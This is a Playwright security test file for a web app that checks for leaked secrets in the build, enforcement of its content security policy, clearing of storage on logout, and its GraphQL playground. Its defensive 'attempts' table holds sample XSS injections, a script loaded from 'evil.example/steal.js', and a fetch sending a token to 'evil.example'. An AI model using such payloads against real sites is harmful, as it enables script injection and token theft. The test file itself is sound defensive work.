import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page, Request } from '@playwright/test'
import { secretsIn } from '../../support/run/secrets.ts'
import { calm } from '../acts/calm.ts'
import { enter, revoke } from '../stage/accounts.ts'
import { superadmin } from '../stage/product.ts'
import { keptKeys } from '../support/drafts.ts'
import { openEditProfile } from '../acts/sidePanel.ts'
import { photograph } from '../acts/photograph.ts'
import { submitLogin } from '../acts/signIn.ts'
import { answersTo, askedByExplore, askedByMyEvents } from '../support/network.ts'
import { storeSession } from '../support/storage.ts'
import { expect, test, willFail } from '../support/test.ts'

test.use(calm)

test('CO-2 no file of the built client contains a secret', () => {
  const dist = join(import.meta.dirname, '../../../dist')
  const files = globSync('**/*.{js,css,html,map,json,webmanifest,svg}', { cwd: dist })
  expect(files.length).toBeGreaterThan(20)
  const found = files.flatMap((path) => {
    const text = readFileSync(join(dist, path), 'utf8')
    // The product was started with a password in its environment.
    const known = text.includes(superadmin.password) ? ["the superadmin's password"] : []
    return [...known, ...secretsIn(text)].map((secret) => `${path}: ${secret}`)
  })
  expect(found).toEqual([])
})

test('only the test build of the client reports the steps of its machines', () => {
  const isReporting = (folder: string) =>
    globSync('assets/*.js', { cwd: folder }).some((path) =>
      readFileSync(join(folder, path), 'utf8').includes('plazaReport'),
    )
  const root = join(import.meta.dirname, '../../..')
  expect(isReporting(join(root, 'dist'))).toBe(false)
  expect(isReporting(join(root, 'reports/client'))).toBe(true)
})

test.describe('the page', () => {
  test.use({ as: 'member' })

  /** Attempts to run foreign code, each with the policy violation that the page must report. */
  const attempts: Record<string, { attempt: () => void; breach: string }> = {
    'an inline script': {
      attempt: () => {
        const script = document.createElement('script')
        script.append('document.title = "stolen"')
        document.body.append(script)
      },
      breach: 'require-trusted-types-for',
    },
    'a script from another site': {
      attempt: () => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/steal.js'
        document.body.append(script)
      },
      breach: 'require-trusted-types-for',
    },
    'markup with an event handler': {
      attempt: () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title = \'stolen\'">')
      },
      breach: 'require-trusted-types-for',
    },
    'text run as code': {
      attempt: () => {
        // oxlint-disable-next-line typescript/no-implied-eval -- the test checks that it does not run
        setTimeout('document.title = "stolen"')
      },
      breach: 'require-trusted-types-for',
    },
    'a request to another site': {
      attempt: () => {
        void fetch('https://evil.example/?token=x').catch(() => null)
      },
      breach: 'connect-src',
    },
    'a picture from another site': {
      attempt: () => {
        new Image().src = 'https://evil.example/token.gif'
      },
      breach: 'img-src',
    },
  }

  test('refuses foreign content, however it is added', async ({ page, faults }) => {
    const reports: string[] = []
    await page.exposeFunction('report', (directive: string) => reports.push(directive))
    await page.goto('/explore')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.evaluate(() =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        (globalThis as unknown as { report: (directive: string) => void }).report(effectiveDirective),
      ),
    )
    for (const [name, { attempt, breach }] of Object.entries(attempts))
      await test.step(name, async () => {
        reports.length = 0
        // An attempt that throws has also been blocked; the report names the directive.
        await page.evaluate(attempt).catch(() => null)
        await expect.poll(() => reports, name).toEqual([breach])
        await expect(page).toHaveTitle('Explore · Plaza')
      })
    faults.length = 0
  })

  test('PR-4 contacts only its own server and, for a visible map, the map service', async ({
    page,
    stage,
  }) => {
    const foreign: Request[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith('http') || new URL(request.url()).origin === stage.url) return
      foreign.push(request)
    })
    for (const path of ['/home', '/explore', '/myevents']) {
      await page.goto(path)
      await expect(page.getByRole('heading', { level: 1 })).toBeAttached()
    }
    await page.goto('/explore')
    await page.getByRole('button', { name: 'Show All', exact: true }).click()
    await expect(page.getByText(/^Found \d+ Event\(s\)$/)).toBeVisible()
    const map = page.getByRole('region', { name: /^Map of / })
    await expect(map.locator('.leaflet-tile-loaded').first()).toBeVisible()
    expect([...new Set(foreign.map((request) => new URL(request.url()).origin))]).toEqual([
      'https://tile.openstreetmap.org',
    ])
    // OpenStreetMap refuses tiles without the origin of their page.
    expect(await foreign[0]?.headerValue('referer')).toBe(`${stage.url}/`)
  })
})

test.describe('browser storage', () => {
  const looked = (page: Page) =>
    page.evaluate(async () => {
      // Opening a missing database would create it, without the product's object stores.
      if (!(await indexedDB.databases()).some(({ name }) => name === 'plaza')) return 0
      const opened = indexedDB.open('plaza')
      const database = await new Promise<IDBDatabase>(
        (done) => (opened.onsuccess = () => done(opened.result)),
      )
      const names = [...database.objectStoreNames]
      const counting = names.length === 0 ? null : database.transaction('views').objectStore('views').count()
      const count =
        counting && (await new Promise<number>((done) => (counting.onsuccess = () => done(counting.result))))
      database.close()
      return count ?? 0
    })

  const ends: Record<string, (page: Page, token: string, url: string) => Promise<void>> = {
    logout: async (page) => {
      await page.getByRole('banner').getByRole('button').last().click()
      await page.getByRole('dialog').getByRole('button', { name: 'Logout' }).click()
    },
    'a revoked token': async (page, token, url) => {
      await fetch(`${url}/common/logout/`, { method: 'POST', headers: { authorization: `Bearer ${token}` } })
      await page.getByRole('link', { name: 'MY EVENTS' }).click()
    },
    'a logout in another tab': async (page) => {
      const other = await page.context().newPage()
      await other.goto('/home')
      await other.getByRole('banner').getByRole('button').last().click()
      await other.getByRole('dialog').getByRole('button', { name: 'Logout' }).click()
    },
  }
  for (const [what, end] of Object.entries(ends))
    test(`SE-4 ${what} clears local storage, IndexedDB and cached answers`, async ({
      page,
      stage,
      person,
      context,
    }) => {
      // A separate session, which ends in this test.
      const own = await enter(stage.url, person)
      await storeSession(page, own)
      const answers = answersTo(page)
      await page.goto('/explore')
      await page.getByRole('button', { name: 'Show All', exact: true }).click()
      await expect.poll(() => looked(page)).toBeGreaterThan(0)
      await answers(...askedByExplore, 'getFeatures')
      await end(page, own.token, stage.url)
      await expect(page.getByRole('tab', { name: 'Login' })).toBeVisible()
      await expect.poll(() => looked(page)).toBe(0)
      expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([])
      expect(await context.cookies()).toEqual([])
    })
})

test('SE-4 if the session ends during a save, nothing of the session is kept, but everything the user typed is', async ({
  page,
  context,
  stage,
  person,
}) => {
  const own = await enter(stage.url, person)
  await storeSession(page, own)
  const answers = answersTo(page)
  const edit = await openEditProfile(page)
  await answers(...askedByMyEvents)
  await edit.getByLabel('Full Name').fill('Noor van Dyk')
  const portrait = { name: 'noor.jpg', mimeType: 'image/jpeg', buffer: await photograph(30, 40) }
  await edit.locator('input[type=file]').setInputFiles(portrait)
  await expect.poll(() => keptKeys(page)).toHaveLength(2)
  await revoke(stage.url, own.token)
  willFail(context)
  await edit.getByRole('button', { name: 'Save Changes' }).click()
  await expect(page.getByRole('dialog', { name: 'Log in again' })).toBeVisible()
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual([])
  expect(await keptKeys(page)).toHaveLength(2)

  // Like after a crash, the user is asked to log in and then finds the draft.
  await page.reload()
  await submitLogin(page, person)
  await expect(page).toHaveURL(/\/myevents\?dialog=edit-profile$/)
  await expect(edit.getByText('Your work on your profile, with 1 picture, was not saved.')).toBeVisible()
  await edit.getByRole('button', { name: 'Continue' }).click()
  await expect(edit.getByLabel('Full Name')).toHaveValue('Noor van Dyk')
  await expect(edit.getByRole('button', { name: 'Remove new picture' })).toBeVisible()
  await expect
    .poll(() => edit.locator('img').evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBe(30)
  await edit.getByRole('button', { name: 'Cancel' }).click()
  await expect.poll(() => keptKeys(page)).toEqual([])
  await page.getByRole('dialog').getByRole('button', { name: 'Logout' }).click()
})

test.describe('the playground', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] })

  test('opens with the docs and with examples, the first of which logs in', async ({ page }) => {
    await page.goto('/graphql')
    const tabs = page.getByRole('tab')
    const run = page.getByRole('button', { name: /Execute query/ })
    const result = page.getByLabel('Result Window')
    await expect(tabs).toHaveCount(10)
    await expect(page.getByLabel('Headers', { exact: true }).first()).toContainText('Run "login"')
    const isLogin = (request: Request) => request.postData()?.includes('mutation login') === true
    const answered = page.waitForResponse((response) => isLogin(response.request()))
    await run.click()
    await expect(result).toContainText('token')
    await expect(result).toContainText('Maya')
    // Read from the answer, since the editor wraps long texts.
    const { data } = (await (await answered).json()) as { data: { login: { token: string } } }
    await tabs
      .filter({ hasText: /^events/ })
      .getByRole('button')
      .first()
      .click()
    await expect(page.getByLabel('Operation Editor').first()).toContainText('Published events')
    // For a moment after switching tabs, GraphiQL still fills its editors, and names the previous operation.
    await expect(async () => {
      await write(page, 'Headers', `{ "Authorization": "Bearer ${data.login.token}" }`)
      await run.click()
      await expect(result).toContainText('eventDate', { timeout: 2000 })
    }).toPass()
    await page.getByRole('button', { name: 'Show Documentation Explorer' }).click()
    const docs = page.getByLabel('Documentation Explorer', { exact: true })
    await docs.getByText('Mutation', { exact: true }).first().click()
    await expect(docs).toContainText('Signs in.')
    await page.reload()
    await expect(tabs).toHaveCount(10)
  })

  test('runs an operation with a custom header, without contacting another host', async ({
    page,
    person,
  }) => {
    await page.goto('/graphql')
    await expect(page.getByText('Headers', { exact: true })).toBeVisible()
    await write(page, 'Operation Editor', 'query { me { email } }')
    await write(page, 'Headers', `{ "Authorization": "Bearer ${person.token}" }`)
    await page.getByRole('button', { name: /Execute query/ }).click()
    await expect(page.getByLabel('Result Window')).toContainText(person.email)
  })
})

/** Replaces the text of an editor in the playground. */
async function write(page: Page, name: string, text: string) {
  await page.getByLabel(name, { exact: true }).first().click()
  await page.keyboard.press('ControlOrMeta+A')
  // Pasted, because the editor would add brackets to typed text.
  await page.evaluate((copied) => navigator.clipboard.writeText(copied), text)
  await page.keyboard.press('ControlOrMeta+V')
}
